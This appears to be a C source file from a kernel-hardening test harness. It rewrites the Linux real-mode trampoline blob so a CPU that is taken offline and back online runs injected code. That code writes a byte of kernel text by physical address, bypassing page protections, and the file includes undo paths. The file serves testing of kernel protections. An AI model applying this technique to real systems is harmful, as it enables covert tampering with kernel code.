// SPDX-License-Identifier: GPL-2.0-only
/*
 * The kernel's real-mode blob rewritten: where a CPU begins that is started again. Its first
 * instruction becomes a jump to code of the attacker, which writes a byte of kernel text by its
 * physical address, without paging, and then goes on as the blob would have.
 */
#include <linux/cpu.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <asm/io.h>
#include <asm/realmode.h>

#include "attack.h"
#include "memory.h"
#include "paging.h"

/* Linux keeps the first MiB for firmware and its own start-up code: this page nobody uses. */
#define OWN_PA 0x8000

#define REPLACED 8 /* bytes of the blob: cli; wbinvd; ljmpw to the next instruction */

/* What the code below has at its end. */
struct trampoline_args {
	u32 target; /* physical address */
	u32 byte;
	u32 runs;
};

extern const u8 trampoline_begin[], trampoline_replaced[], trampoline_args[], trampoline_end[];

/* Protected mode for the length of one store, which leaves CS as it was in real mode. */
asm(".pushsection .rodata\n"
    "	.balign 8\n"
    "trampoline_begin:\n"
    "	.code16\n"
    "	mov %cs, %ax\n"
    "	mov %ax, %ds\n"
    "	lgdtl trampoline_gdtr - trampoline_begin\n"
    "	mov trampoline_args - trampoline_begin, %edi\n"
    "	mov trampoline_args - trampoline_begin + 4, %cl\n"
    "	mov %cr0, %edx\n"
    "	mov %edx, %eax\n"
    "	or $1, %al\n"
    "	mov %eax, %cr0\n"
    "	mov $8, %bx\n"
    "	mov %bx, %es\n"
    "	mov %cl, %es:(%edi)\n"
    "	mov %edx, %cr0\n"
    "	xor %bx, %bx\n"
    "	mov %bx, %es\n"
    "	incl trampoline_args - trampoline_begin + 8\n"
    "trampoline_replaced:\n"
    "	.skip 8\n" /* ends with a jump */
    "	.code64\n"
    "	.balign 8\n"
    "trampoline_gdt:\n"
    "	.quad 0, 0x00cf93000000ffff\n"
    "trampoline_gdtr:\n"
    "	.word 15\n"
    "	.long 0x8000 + trampoline_gdt - trampoline_begin\n"
    "	.balign 4\n"
    "trampoline_args:\n"
    "	.long 0, 0, 0\n"
    "trampoline_end:\n"
    ".popsection\n");

/* ljmpw $OWN_PA >> 4, $0 */
static const u8 jump[] = { 0xea, 0, 0, (OWN_PA >> 4) & 0xff, OWN_PA >> 12 };

static const u8 blob_start[] = { 0xfa, 0x0f, 0x09, 0xea };

/* ---- the blob as a target like any other ---- */

static int target_blob(struct attempt *t)
{
	struct real_mode_header **header = attack_symbol("real_mode_header");
	u64 wanted = 0;
	u8 *blob;

	if (!header || !*header)
		return -ENOENT;
	blob = __va((*header)->trampoline_start);
	if (memcmp(blob, blob_start, sizeof(blob_start)))
		return -EILSEQ;
	memcpy(&wanted, blob, REPLACED);
	memcpy(&wanted, jump, sizeof(jump));
	return memory_target_at(t, blob, REPLACED, wanted);
}

static enum attack_outcome blob_direct_map(struct attempt *t)
{
	return memory_attack(t, target_blob, memory_door_direct_map, memory_store_quad);
}

static enum attack_outcome blob_vmap(struct attempt *t)
{
	return memory_attack(t, target_blob, memory_door_vmap, memory_store_quad);
}

/* ---- run by a CPU that is started again ---- */

/* Through whichever mapping takes it. */
static int blob_put(struct attempt *blob, u64 value)
{
	int trap = memory_door_vmap(blob, memory_store_quad, (const u8 *)&value);

	if (trap != TRAP_NONE)
		trap = memory_door_direct_map(blob, memory_store_quad, (const u8 *)&value);
	return trap;
}

static void own_code(u8 *page, struct attempt *t, struct attempt *blob, u8 byte)
{
	struct trampoline_args *args = (void *)page + (trampoline_args - trampoline_begin);

	memcpy(page, trampoline_begin, trampoline_end - trampoline_begin);
	memcpy(page + (trampoline_replaced - trampoline_begin), &blob->was, REPLACED);
	args->target = ((u64)t->pfn << PAGE_SHIFT) + offset_in_page(t->va);
	args->byte = byte;
}

/* Has another CPU write byte to the target. The number of times it ran our code. */
static u32 poke(struct attempt *t, struct attempt *blob, u8 byte)
{
	u8 *page = __va(OWN_PA), *saved = kmemdup(page, PAGE_SIZE, GFP_KERNEL);
	struct trampoline_args *args = (void *)page + (trampoline_args - trampoline_begin);
	unsigned int cpu = cpumask_last(cpu_online_mask);
	int down, up;
	u32 runs;

	if (!saved)
		return 0;
	own_code(page, t, blob, byte);
	t->trap = blob_put(blob, blob->wanted);
	down = remove_cpu(cpu);
	up = down ? 0 : add_cpu(cpu);
	if (t->trap == TRAP_NONE)
		blob_put(blob, blob->was);
	runs = READ_ONCE(args->runs);
	memcpy(page, saved, PAGE_SIZE);
	kfree(saved);
	attack_note(t, "CPU %u down: %d, up: %d, ran own code %u times", cpu, down, up, runs);
	return runs;
}

static int poke_with(struct attempt *t, u8 byte)
{
	struct attempt *blob = kzalloc(sizeof(*blob), GFP_KERNEL);
	int err = blob ? target_blob(blob) : -ENOMEM;

	if (!err && (num_online_cpus() != 2 || blob->pfn == OWN_PA >> PAGE_SHIFT))
		err = -EBUSY;
	if (err)
		attack_note(t, "no target: %d", err);
	else if (!poke(t, blob, byte))
		err = -EPERM;
	kfree(blob);
	return err;
}

static enum attack_outcome blob_run(struct attempt *t)
{
	int err = memory_target_text(t);

	if (!err)
		err = poke_with(t, t->wanted);
	return !err ? ATTACK_SUCCEEDED : err == -EPERM ? ATTACK_REFUSED : ATTACK_ERROR;
}

static int blob_run_undo(struct attempt *t)
{
	return poke_with(t, t->was);
}

#define GIVES "a CPU that begins with code of the attacker, in real mode"
#define ASSET "real-mode startup code"

#define WRITTEN(name_, title_, run_)                                                           \
	{                                                                                      \
		.name = name_, .title = title_, .gives = GIVES, .asset = ASSET,                \
		.control = ATTACK_BARE, .run = run_, .look = memory_look, .undo = memory_undo, \
	}

static const struct attack trampoline_attacks[] = {
	WRITTEN("blob-direct-map", "write the real-mode blob through the direct map",
		blob_direct_map),
	WRITTEN("blob-vmap", "write the real-mode blob through a second mapping", blob_vmap),
	{
		.name = "blob-run",
		.title = "have a CPU that is started again run a rewritten real-mode blob, and "
			 "write text",
		.gives = GIVES,
		.asset = ASSET,
		.control = ATTACK_BARE,
		.own_vm = true,
		.cpus = 2,
		.run = blob_run,
		.look = memory_look,
		.undo = blob_run_undo,
	},
};

const struct attack_table trampoline_table = { trampoline_attacks,
					       ARRAY_SIZE(trampoline_attacks) };
